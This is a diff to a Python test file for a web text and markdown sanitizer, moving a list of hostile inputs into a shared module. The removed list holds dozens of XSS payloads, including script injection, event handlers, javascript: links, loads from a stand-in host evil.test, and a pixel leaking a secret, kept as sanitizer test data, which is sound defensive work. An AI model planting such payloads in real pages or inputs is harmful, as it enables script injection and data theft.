@@ -12,6 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markupsafe import Markup
 
+from tests.hostile import HOSTILE
 from tests.support.ending import ends
 from workbench.web.text import content, markdown, raw
 
@@ -24,69 +25,6 @@ ALLOWED_ATTRIBUTES = {
     ("p", "class"), ("div", "class"),
 }  # fmt: skip
 CLASSES = {"cp", "link", "address", "wrap", "formula", "scroll"}
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=//evil.test>",
-    "<base href=//evil.test/>",
-    "<meta http-equiv=refresh content='0;url=//evil.test'>",
-    "<link rel=stylesheet href=//evil.test/x.css>",
-    "<style>@import '//evil.test/x.css'; body{display:none}</style>",
-    "<form action=/logout method=post><button>Submit and next</button></form>",
-    "<b hx-post=/logout hx-trigger=load>x</b>",
-    "<b data-hx-get=/account hx-nonce=guess hx-trigger='every 1s'>x</b>",
-    "<b hx-on:click=alert(1)>x</b>",
-    "<a href=javascript:alert(1)>click</a>",
-    "<div style='position:fixed;inset:0'>over everything</div>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><x onload=alert(1)/>",
-    "</div></main><h1>Log in again</h1>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt&colon;alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[click](vbscript:msgbox(1))",
-    "[delete](/logout)",
-    "[x](//evil.test 'with a \" title')",
-    "[x](<https://evil.test/><script>alert(1)</script>)",
-    "![x](https://evil.test/pixel.png?secret)",
-    "![x](javascript:alert(1))",
-    '![" onerror="alert(1)](x)',
-    "![x][ref]\n\n[ref]: https://evil.test/p.png",
-    '<https://evil.test/?a="onmouseover=alert(1)>',
-    "<javascript:alert(1)>",
-    "`<script>alert(1)</script>`",
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\nx\n```',
-    "```js onload=alert(1) style=x\nx\n```",
-    "    <script>alert(1)</script>",
-    "| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| <script>alert(1)</script> | c |",
-    "# <img src=x onerror=alert(1)>",
-    "> <script>alert(1)</script>\n- <svg onload=alert(1)>",
-    "**<b onclick=alert(1)>bold</b>**",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\\<script>alert(1)\\</script>",
-    "<scr\u200bipt>alert(1)</scr\u200bipt>",
-    "{{ config }} {% raw %} ${alert(1)} #{7*7}",
-    "<a\thref='https://evil.test'\n>x</a\n>",
-    "<x y=`z`onclick=alert(1)>",
-    "\ufeff<script>alert(1)</script>",
-    "&#x202e;&#8203;&#0;",
-    "<span class=cp data-cp='<script>'>x</span>",
-]  # fmt: skip
 
 
 class _Reader(HTMLParser):
